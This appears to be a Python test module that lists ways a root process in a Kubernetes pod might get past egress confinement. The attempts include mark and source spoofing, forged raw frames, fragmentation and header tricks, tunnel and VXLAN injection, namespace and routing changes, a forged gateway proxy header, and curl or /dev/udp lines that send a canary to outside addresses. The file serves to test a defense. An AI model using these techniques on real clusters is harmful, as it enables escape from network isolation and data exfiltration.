# SPDX-License-Identifier: Apache-2.0
"""What a root process in a pod tries. Each function gets an Attack and sends; test_attempts.py judges.

`leaves`: from a pod that nobody confines it gets out, which a test shows. A few never do; they must not
become a way. `counted`: whoever refuses it counts it.
"""
import collections
import contextlib
import socket
import struct

import frames
import packets
from attack import (BOTH, BROADCAST, EXTERNAL_IP, FAR_POD, IPPROTO_DCCP, IPPROTO_SCTP, IPPROTO_UDPLITE,
                    NODE_IP, NODE_LINK_LOCAL, NODE_MAC, NOWHERE4, NOWHERE6, OUT, OUT4, OUT6, SERVICE,
                    VXLAN_ID, VXLAN_PORT, hardware_address, know_neighbours, nft)
from procs import wait_for

Attempt = collections.namedtuple("Attempt", "name run leaves counted")
ATTEMPTS = []

SO_MARK, IP_TRANSPARENT, IP_FREEBIND, IPV6_TRANSPARENT = 36, 19, 15, 75
STEER_MARK = 16  # redirect.mark's default
MSG_FASTOPEN = 0x20000000


def attempt(leaves=True, counted=True):
    def add(function):
        ATTEMPTS.append(Attempt(function.__name__, function, leaves, counted))
        return function
    return add


# ---- sockets ----

@attempt()
def plain_sockets(a):
    a.all_of(OUT4, OUT6)


@attempt()
def every_mark(a):
    marks = sorted({1 << bit for bit in range(32)} | set(range(256)) | {STEER_MARK, 0xFFFFFFFF, 0x51CE0000})
    for mark in marks:
        def marked(sock, mark=mark):
            sock.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", mark))
        for address in (OUT4, OUT6):
            a.syn(address, 80, marked)
            a.datagram(address, 53, marked)


def as_user(a, uid):
    user = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
    for address in (OUT4, f"[{OUT6}]"):
        a.run(*user, "curl", "-sg", "--max-time", "2", f"http://{address}/{a.canary.decode()}")
    for address in (OUT4, OUT6):
        a.run(*user, "bash", "-c", f"echo {a.canary.decode()} >/dev/udp/{address}/53")


@attempt()
def user_1337(a):
    as_user(a, 1337)


@attempt()
def user_2102(a):
    as_user(a, 2102)


@attempt()
def mapped_addresses(a):
    """IPv4 by sockets of IPv6."""
    a.syn(f"::ffff:{OUT4}")
    a.datagram(f"::ffff:{OUT4}", 53)


@attempt()
def bound_to_the_interface(a):
    a.all_of(OUT4, OUT6, prepare=lambda sock: sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0"))


@attempt()
def bound_to_another_pods_address(a):
    """IP_TRANSPARENT sockets may have any source."""
    other = a.world.pods["pod-b"]

    def transparent(sock):
        v6 = sock.family == socket.AF_INET6
        level, option = (socket.IPPROTO_IPV6, IPV6_TRANSPARENT) if v6 else (socket.IPPROTO_IP, IP_TRANSPARENT)
        sock.setsockopt(level, option, 1)
        sock.bind((other.ip6 if v6 else other.ip4, 0))
    for address in (OUT4, OUT6):
        a.syn(address, 80, transparent)
        a.datagram(address, 53, transparent)


@attempt()
def fast_open(a):
    """Data in the SYN, without a cookie."""
    a.pod.sysctl(ipv4__tcp_fastopen=0x5)
    for address in (OUT4, OUT6):
        sock = a.socket(socket.SOCK_STREAM, address)
        data = b"GET /%s HTTP/1.0\r\n\r\n" % a.canary
        a.trying(lambda sock=sock, data=data, address=address: sock.sendto(data, MSG_FASTOPEN, (address, 80)))


@attempt()
def other_protocols(a):
    """SCTP, UDP-Lite, DCCP, ESP, and one that has no name."""
    for v in BOTH:
        for proto, payload in ((IPPROTO_SCTP, packets.sctp_init(40000, 3868, a.canary)),
                               (IPPROTO_UDPLITE, struct.pack("!HHHH", 40000, 53, 0, 0) + a.canary),
                               (IPPROTO_DCCP, struct.pack("!HHI", 40000, 53, 0) + a.canary),
                               (packets.ESP, struct.pack("!II", 1, 1) + a.canary), (253, a.canary)):
            sock = a.socket(socket.SOCK_RAW, OUT[v], proto)
            a.trying(lambda sock=sock, payload=payload, v=v: sock.sendto(payload, (OUT[v], 0)))
            a.frame(frames.ip(a.ip[v], OUT[v], proto, payload))


@attempt()
def echo_with_payload(a):
    a.echo(OUT4)
    a.echo(OUT6)
    for v in BOTH:
        a.frame(a.echo_packet(v))


@attempt()
def outside_resolver(a):
    a.datagram("198.51.100.53", 53, payload=b"\x12\x34\1\0\0\1\0\0\0\0\0\0\x10" + a.canary + b"\3com\0\0\1\0\1")
    a.frame(a.udp_packet(dst="198.51.100.53"))


@attempt()
def quic_port(a):
    for v in BOTH:
        a.datagram(OUT[v], 443)
        a.frame(a.udp_packet(v, dport=443))


# ---- packets made by hand ----

@attempt()
def raw_own_source(a):
    for v in BOTH:
        a.raw(a.tcp_packet(v))
        a.raw(a.udp_packet(v))


@attempt()
def raw_forged_source(a):
    for src in (NOWHERE4, "10.244.1.1", "192.0.2.77", "127.0.0.1", "203.0.113.10"):
        a.raw(a.tcp_packet(4, src))
        a.frame(a.tcp_packet(4, src))
    for src in (NOWHERE6, "fd00:10:244:1::1", "2001:db8:2::77", "::1", "2001:db8:113::10"):
        a.raw(a.tcp_packet(6, src))
        a.frame(a.tcp_packet(6, src))


@attempt()
def raw_another_pods_source(a):
    other = a.world.pods["pod-b"]
    for v, src in ((4, other.ip4), (6, other.ip6)):
        a.raw(a.tcp_packet(v, src))
        a.raw(a.udp_packet(v, src))
        a.frame(a.tcp_packet(v, src))
        a.frame(a.udp_packet(v, src))


@attempt()
def frames_to_the_node(a):
    for v in BOTH:
        for packet in (a.tcp_packet(v), a.udp_packet(v), a.echo_packet(v),
                       a.tcp_packet(v, flags=frames.ACK), a.tcp_packet(v, flags=frames.RST)):
            a.frame(packet)


@attempt()
def frames_to_routers(a):
    """To the gateway and to the internet's router, by their link addresses; to everybody."""
    for mac in (hardware_address(a.world.gateway, "node0"), hardware_address(a.world.gateway, "wan0"),
                hardware_address(a.world.internet, "node0"), BROADCAST):
        for v in BOTH:
            a.frame(a.udp_packet(v), dst=mac)
            a.frame(a.tcp_packet(v), dst=mac)


@attempt()
def frames_from_other_link_addresses(a):
    for v in BOTH:
        a.frame(a.udp_packet(v), src="02:00:00:00:12:34")
        a.frame(a.udp_packet(v), src=NODE_MAC)


@attempt()
def vlan_tags(a):
    """A priority tag is taken off without a word; two of them are, too."""
    for v in BOTH:
        kind, packet = (b"\x86\xdd" if v == 6 else b"\x08\x00"), a.udp_packet(v)
        a.frame(b"\0\0" + kind + packet, ethertype=b"\x81\0")
        a.frame(b"\0\0\x81\0\0\0" + kind + packet, ethertype=b"\x88\xa8")
        a.frame(b"\0\5" + kind + packet, ethertype=b"\x81\0")


@attempt()
def other_frames(a):
    """802.3 with SNAP, and ethertypes that are neither IP nor ARP."""
    other = hardware_address(a.world.pods["pod-b"], "eth0")
    for mac in (NODE_MAC, other):
        payload = packets.snap(a.udp_packet())
        a.frame(payload, dst=mac, ethertype=struct.pack("!H", len(payload)))
        for kind in (b"\x88\x47", b"\x88\x63", b"\x88\x64", b"\x22\xf0", b"\x88\xcc"):
            a.frame(a.udp_packet(), dst=mac, ethertype=kind)


@attempt()
def fragments(a):
    """The ports come in the second one; or the first is overlapped."""
    whole = frames.udp(a.ip[4], OUT4, 40000, 53, b"x" * 8 + a.canary)
    for ident, (first, second, at) in enumerate(((whole[:8], whole[8:], 1), (whole[:16], whole[8:], 1)), 7):
        a.frame(frames.ip4(a.ip[4], OUT4, frames.UDP, first, ident=ident, frag=0x2000))
        a.frame(frames.ip4(a.ip[4], OUT4, frames.UDP, second, ident=ident, frag=at))
    segment = frames.tcp(a.ip[4], OUT4, 40000, 80, payload=a.canary)
    a.frame(frames.ip4(a.ip[4], OUT4, frames.TCP, segment[:8], ident=9, frag=0x2000))
    a.frame(frames.ip4(a.ip[4], OUT4, frames.TCP, segment[8:], ident=9, frag=1))
    # The first one is all options: the second one begins with the ports.
    options = frames.ext(frames.UDP, b"", 8)
    datagram = frames.udp(a.ip[6], OUT6, 40000, 53, a.canary)
    a.frame(frames.ip6(a.ip[6], OUT6, packets.FRAGMENT,
                       frames.fragment6(packets.DESTINATION_OPTIONS, options, more=True)))
    a.frame(frames.ip6(a.ip[6], OUT6, packets.FRAGMENT,
                       frames.fragment6(packets.DESTINATION_OPTIONS, datagram, offset=8)))


@attempt()
def extension_headers(a):
    """Hop by hop, destination options, an atomic fragment; and options of IPv4."""
    datagram = frames.udp(a.ip[6], OUT6, 40000, 53, a.canary)
    inner = frames.fragment6(packets.DESTINATION_OPTIONS, frames.ext(frames.UDP, datagram))
    a.frame(frames.ip6(a.ip[6], OUT6, packets.HOP_BY_HOP, frames.ext(packets.DESTINATION_OPTIONS,
                                                                    frames.ext(frames.UDP, datagram))))
    a.frame(frames.ip6(a.ip[6], OUT6, packets.FRAGMENT, inner))
    datagram = frames.udp(a.ip[4], OUT4, 40000, 53, a.canary)
    a.frame(frames.ip4(a.ip[4], OUT4, frames.UDP, datagram,
                       options=packets.route_option(packets.RECORD_ROUTE, "0.0.0.0")))


@attempt()
def source_routes(a):
    """Addressed to the node, which is cluster; the header names the way on."""
    datagram = frames.udp(a.ip[4], OUT4, 40000, 53, a.canary)
    for kind in (packets.LSRR, packets.SSRR):
        a.frame(frames.ip4(a.ip[4], NODE_IP[4], frames.UDP, datagram, options=packets.route_option(kind, OUT4)))
        a.frame(frames.ip4(a.ip[4], OUT4, frames.UDP, datagram, options=packets.route_option(kind, OUT4)))


@attempt()
def routing_headers(a):
    datagram = frames.udp(a.ip[6], OUT6, 40000, 53, a.canary)
    for kind in (0, 2):
        a.frame(frames.ip6(a.ip[6], NODE_IP[6], packets.ROUTING,
                           packets.routing_header(kind, frames.UDP, datagram, OUT6)))
    a.frame(frames.ip6(a.ip[6], NODE_IP[6], packets.ROUTING,
                       packets.segment_routing(frames.UDP, datagram, OUT6, NODE_IP[6])))


@attempt()
def encapsulated_to_the_outside(a):
    """GRE, IPIP, 6in4, IPv6 in IPv6, VXLAN: whatever is inside, the outer destination is outside."""
    inside = a.udp_packet(4, dst=NODE_IP[4]), a.udp_packet(6, dst=NODE_IP[6])
    for v in BOTH:
        outer = [(packets.GRE, packets.gre(inner)) for inner in inside]
        outer += [(4, inside[0]), (41, inside[1])]
        vx = packets.vxlan(VXLAN_ID, packets.ethernet(NODE_MAC, a.mac, inside[0]))
        outer += [(frames.UDP, frames.udp(a.ip[v], OUT[v], 40000, port, vx)) for port in (4789, VXLAN_PORT)]
        for proto, payload in outer:
            a.frame(frames.ip(a.ip[v], OUT[v], proto, payload))
            a.raw(frames.ip(a.ip[v], OUT[v], proto, payload))


@attempt(leaves=False, counted=False)
def encapsulated_to_the_node(a):
    """GRE, IPIP, 6in4 to the node, which is cluster and has no such tunnel: inside is the way out."""
    for v in BOTH:
        inner = a.udp_packet(v)
        for proto, payload in ((packets.GRE, packets.gre(inner)), (4 if v == 4 else 41, inner)):
            a.frame(frames.ip(a.ip[4], NODE_IP[4], proto, payload))
            a.frame(frames.ip(a.ip[6], NODE_IP[6], proto, payload))


def into_vxlan(a, src):
    inner = packets.ethernet("02:00:00:00:00:99", a.mac, a.udp_packet(4, src))
    payload = packets.vxlan(VXLAN_ID, inner)
    a.frame(frames.ip(a.ip[4], NODE_IP[4], frames.UDP,
                      frames.udp(a.ip[4], NODE_IP[4], 40000, VXLAN_PORT, payload)))


@attempt()
def into_the_nodes_vxlan(a):
    """A device of the node's CNI takes the inner packet, as if another node had sent it."""
    into_vxlan(a, a.ip[4])


@attempt()
def into_the_nodes_vxlan_forged(a):
    into_vxlan(a, FAR_POD[4])


@attempt()
def faked_answers(a):
    """A SYN-ACK, a datagram, an echo reply, an ICMP error: as if somebody outside had begun."""
    for v in BOTH:
        sent = [a.tcp_packet(v, flags=frames.SYN | frames.ACK, ack=1), a.tcp_packet(v, flags=frames.ACK, ack=1),
                a.tcp_packet(v, flags=frames.FIN | frames.ACK, ack=1),
                a.udp_packet(v, sport=80, dport=50000), a.echo_packet(v, reply=True),
                frames.icmp_packet(a.ip[v], OUT[v], 1 if v == 6 else 3, 1,
                                   payload=frames.udp_packet(OUT[v], a.ip[v], 50000, 80, a.canary))]
        for packet in sent:
            a.raw(packet)
            a.frame(packet)


# ---- addresses, routes, namespaces ----

@attempt()
def second_address(a):
    """Of the pods' network, and of none that the cluster knows."""
    more = ((4, NOWHERE4, 32), (4, "198.18.0.5", 32), (6, NOWHERE6, 128), (6, "2001:db8:bad::5", 128))
    for v, address, bits in more:
        a.pod.ip(f"addr add {address}/{bits} dev eth0" + (" nodad" if v == 6 else ""))

        def bound(sock, address=address):
            sock.bind((address, 0))
        a.syn(OUT[v], 80, bound)
        a.datagram(OUT[v], 53, bound)
        a.raw(a.udp_packet(v, address))


@attempt()
def routes_of_its_own(a):
    """A table and a rule, a router given by hand, the outside put on the link."""
    a.pod.ip("rule add priority 10 lookup 77", "route add default via 10.244.1.1 dev eth0 onlink table 77",
             f"route add default via {NODE_LINK_LOCAL} dev eth0 table 77")
    a.ip6("rule add priority 10 lookup 77")
    a.all_of(OUT4, OUT6)
    a.ip6("rule del priority 10")
    a.pod.ip("rule del priority 10", f"route add {OUT4}/32 dev eth0", f"route add {OUT6}/128 dev eth0",
             f"neigh replace {OUT4} lladdr {NODE_MAC} dev eth0", f"neigh replace {OUT6} lladdr {NODE_MAC} dev eth0")
    a.all_of(OUT4, OUT6)


@attempt()
def outside_called_local(a):
    """`lo` gets the address, so that rules take it for the pod's own; the packet is sent by hand."""
    a.pod.ip(f"addr add {OUT4}/32 dev lo", f"addr add {OUT6}/128 dev lo nodad")
    for v in BOTH:
        a.frame(a.udp_packet(v))
        a.frame(a.tcp_packet(v, src=OUT[v], dst="198.51.100.10" if v == 4 else "2001:db8:51::10"))


@attempt()
def through_another_pod(a):
    """Which forwards."""
    other = a.world.pods["pod-b"]
    other.sysctl(ipv4__ip_forward=1, ipv6__conf__all__forwarding=1)
    a.closing.callback(other.sysctl, ipv4__ip_forward=0, ipv6__conf__all__forwarding=0)
    a.pod.ip(f"route replace default via {other.ip4}")
    a.ip6(f"route replace default via {other.ip6}")
    a.all_of(OUT4, OUT6)


@attempt()
def link_local_router(a):
    """The node's own link-local address is a router as good as any."""
    a.ip6("route del default", f"route add default via {NODE_LINK_LOCAL} dev eth0")
    a.all_of(OUT6)


def nest(a, masquerade):
    """A namespace behind the pod, which forwards for it."""
    a.pod.sysctl(ipv4__ip_forward=1, ipv6__conf__all__forwarding=1, ipv6__conf__default__accept_dad=0)
    ns = a.nested("link add inner type veth peer name uplink netns NEST", "link set inner up",
                  "addr add 172.31.0.1/24 dev inner", "addr add fd99::1/64 dev inner nodad")
    ns.sysctl(ipv6__conf__uplink__accept_dad=0)
    ns.ip("link set uplink up", "addr add 172.31.0.2/24 dev uplink",
          "addr add fd99::2/64 dev uplink nodad",
          "route add default via 172.31.0.1", "route add default via fd99::1")
    # Until the kernel has seen that it has a carrier, it drops.
    wait_for(lambda: "state UP" in a.pod.run(["ip", "link", "show", "inner"]).stdout, what="inner is up")
    if masquerade:
        nft(a.pod, "table inet nest { chain post { type nat hook postrouting priority srcnat; "
                   "oifname eth0 masquerade; }; }")
    a.all_of(OUT4, OUT6, ns=ns)


@attempt()
def nested_namespace(a):
    nest(a, masquerade=False)


@attempt()
def nested_namespace_with_masquerade(a):
    nest(a, masquerade=True)


@attempt()
def nested_macvlan(a):
    """Its own link address on the pod's interface: no rule of the pod's namespace is in the way."""
    ns = a.nested("link add mv0 link eth0 netns NEST type macvlan mode bridge")
    ns.sysctl(ipv6__conf__mv0__accept_dad=0)
    ns.ip("link set mv0 up", f"addr add {NOWHERE4}/24 dev mv0", f"addr add {NOWHERE6}/64 dev mv0 nodad",
          "route add default via 10.244.1.1", "route add default via fd00:10:244:1::1")
    know_neighbours(ns, a.world, "mv0")
    a.all_of(OUT4, OUT6, ns=ns)


@attempt()
def interface_moved(a):
    """The pod's own interface with the pod's own addresses, in a namespace that has no rules."""
    ns = a.nested()
    a.pod.ip(f"link set eth0 netns {ns.name}")
    a.closing.callback(ns.ip, f"link set eth0 netns {a.pod.name}")
    ns.sysctl(ipv6__conf__eth0__accept_dad=0, ipv6__conf__eth0__accept_ra=0)
    ns.ip("link set eth0 up", f"addr add {a.ip[4]}/24 dev eth0", f"addr add {a.ip[6]}/64 dev eth0 nodad",
          "route add default via 10.244.1.1", "route add default via fd00:10:244:1::1")
    a.moved_to(ns)
    know_neighbours(ns, a.world)
    a.all_of(OUT4, OUT6, ns=ns)


# ---- what the node does to packets on their way ----

@attempt()
def service_that_leads_outside(a):
    """A ClusterIP whose endpoint somebody wrote by hand."""
    a.all_of(*SERVICE.values())


@attempt()
def external_ip(a):
    a.all_of(*EXTERNAL_IP.values())


def rewrite(a, family, hook):
    """To another node's pod as far as rules before that hook can see."""
    nft(a.pod, f"""table {family} late {{
        chain out {{ type filter hook {hook}; policy accept;
            ip daddr {FAR_POD[4]} ip daddr set {OUT4}
            ip6 daddr {FAR_POD[6]} ip6 daddr set {OUT6}
        }}
    }}""")
    a.datagram(FAR_POD[4], 7)
    a.datagram(FAR_POD[6], 7)


@attempt()
def rewritten_behind_the_rules(a):
    rewrite(a, "inet", "postrouting priority 500")


@attempt()
def rewritten_on_the_interface(a):
    rewrite(a, "netdev", "egress device eth0 priority 0")


# ---- the gateway ----

@attempt()
def forged_tunnel_header(a):
    """The gateway believes agents. Even with the rules gone the pod does not come to speak to it."""
    header = packets.proxy_header("www.example.com", "shop/pod-a", port=80)
    for prepare in (None, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")):
        sock = a.socket(socket.SOCK_STREAM, "192.0.2.10", 0, prepare)
        sock.settimeout(0.5)
        with contextlib.suppress(OSError):
            sock.connect(("192.0.2.10", 15443))
            sock.sendall(header + b"GET /%s HTTP/1.0\r\nHost: www.example.com\r\n\r\n" % a.canary)
            sock.recv(1)
    a.frame(frames.tcp_packet(a.ip[4], "192.0.2.10", 40000, 15443, payload=header))
